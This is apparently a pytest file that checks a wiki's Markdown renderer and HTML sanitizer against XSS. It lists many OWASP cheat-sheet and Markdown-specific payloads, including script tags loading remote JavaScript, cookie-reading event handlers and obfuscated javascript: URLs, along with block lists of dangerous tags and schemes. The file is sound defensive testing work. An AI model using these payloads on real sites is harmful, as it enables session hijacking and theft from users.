"""XSS: the OWASP filter-evasion vectors and Markdown's own leave nothing executable.

Every vector goes through render_markdown, as a page body does. The raw-HTML vectors also go
through sanitize_html directly: Markdown shows raw HTML as text, so only the second run shows
that the allow-list itself holds. The output is read with the standard library's HTML parser
(which decodes entities in attribute values, as a browser does) and checked for dangerous
elements, event handlers, style attributes and javascript:/vbscript:/data: URLs.
"""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser

import pytest

from wiki.content.markdown import render_markdown
from wiki.content.sanitize import sanitize_html

DANGEROUS_ELEMENTS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "bgsound",
    "xml",
    "template",
    "body",
    "html",
    "head",
    "title",
    "noscript",
    "xmp",
    "plaintext",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "lowsrc",
    "dynsrc",
    "xlink:href",
    "poster",
    "data",
    "srcset",
    "cite",
    "longdesc",
    "usemap",
    "ping",
    "content",
}
DANGEROUS_SCHEMES = {"javascript", "vbscript", "data", "livescript", "mocha"}


def scheme_as_a_browser_reads_it(url: str) -> str | None:
    cleaned = "".join(c for c in url if unicodedata.category(c)[0] not in "CZ").lower()
    head = cleaned.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
    return head.split(":", 1)[0] if ":" in head else None


class Findings(HTMLParser):
    """What is dangerous in an HTML fragment, each as a short description."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name} handler on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                candidates = value.split(",") if name == "srcset" else [value]
                for candidate in candidates:
                    if scheme_as_a_browser_reads_it(candidate) in DANGEROUS_SCHEMES:
                        self.problems.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


def problems_in(html: str) -> list[str]:
    parser = Findings()
    parser.feed(html)
    parser.close()
    return parser.problems


# From the OWASP XSS Filter Evasion Cheat Sheet, in its order (raw HTML).
OWASP_VECTORS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1"
    "/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMD'
    'Avc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" '
    'AllowScriptAccess="always"></EMBED>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    # Later browser-era vectors in the same spirit.
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<details open ontoggle=alert(1)>",
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<img srcset="javascript:alert(1) 1x">',
]

# Markdown's own ways in: links, images, autolinks, references, code info strings, wiki links.
MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](java\u200bscript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](java\u2028script:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](javascript:alert(1) "titre")',
    "[x](javascript://%0Aalert(1))",
    "![x](javascript:alert(1))",
    "![x](JAVASCRIPT:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: <javascript:alert(1)> "t"',
    "[r]\n\n[r]: &#106;avascript:alert(1)",
    "![x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://example.org" onmouseover="alert(1))',
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    '![" onerror="alert(1)](https://example.org/a.png)',
    '```" onmouseover="alert(1)\nx\n```',
    '# "><script>alert(1)</script>',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[[x|" onmouseover="alert(1)]]',
    "[[javascript:alert(1)]]",
    "[[<img src=x onerror=alert(1)>]]",
    '<div onclick="alert(1)">\n\n*x*\n\n</div>',
    "<script>\nalert(1)\n</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="&#x6A;avascript:alert(1)">x</a> inline',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "> <svg onload=alert(1)>",
    "- [x](javascript:alert(1))\n- <style>*{}</style>",
    "~~[x](javascript:alert(1))~~",
]


def test_the_checker_catches_what_it_should():
    """The assertions below could fail: the checker flags each kind of danger."""
    assert problems_in("<script>alert(1)</script>") == ["<script> element"]
    assert problems_in('<a href=" JaVa\tScRiPt:x">') == ["href=' JaVa\\tScRiPt:x' on <a>"]
    assert problems_in('<a href="java&#x200b;script:x">') != []
    assert sorted(problems_in('<img src="data:image/png;base64,x" onerror="x" style="x">')) == [
        "onerror handler on <img>",
        "src='data:image/png;base64,x' on <img>",
        "style attribute on <img>",
    ]
    assert problems_in('<a href="https://example.org/javascript:x">') == []


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_owasp_vector_is_harmless_in_markdown(vector):
    assert problems_in(render_markdown(vector).html) == []


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_owasp_vector_is_harmless_through_the_allow_list(vector):
    assert problems_in(sanitize_html(vector)) == []


@pytest.mark.parametrize("vector", MARKDOWN_VECTORS)
def test_markdown_vector_is_harmless(vector):
    assert problems_in(render_markdown(vector).html) == []


@pytest.mark.parametrize(
    "vector",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="java\u200bscript:alert(1)">x</a>',
        '<a href="java\u00adscript:alert(1)">x</a>',
        '<a href="\u3000javascript:alert(1)">x</a>',
        '<a href="VBScript:msgbox(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<img src="mailto:x@example.org">',
        '<a href="&amp;#106;avascript:alert(1)">x</a>',
    ],
)
def test_allow_list_removes_the_dangerous_url_but_keeps_the_element(vector):
    html = sanitize_html(vector)
    assert "href" not in html and "src" not in html
    assert problems_in(html) == []


def test_markdown_link_with_unsafe_url_stays_text():
    html = render_markdown("[cliquez](javascript:alert(1))").html
    assert "<a" not in html
    assert "cliquez" in html


def test_safe_links_survive_the_allow_list():
    html = render_markdown("[a](https://example.org) [b](/pages/x) [c](mailto:a@b.fr)").html
    assert html.count("<a ") == 3
    assert problems_in(html) == []
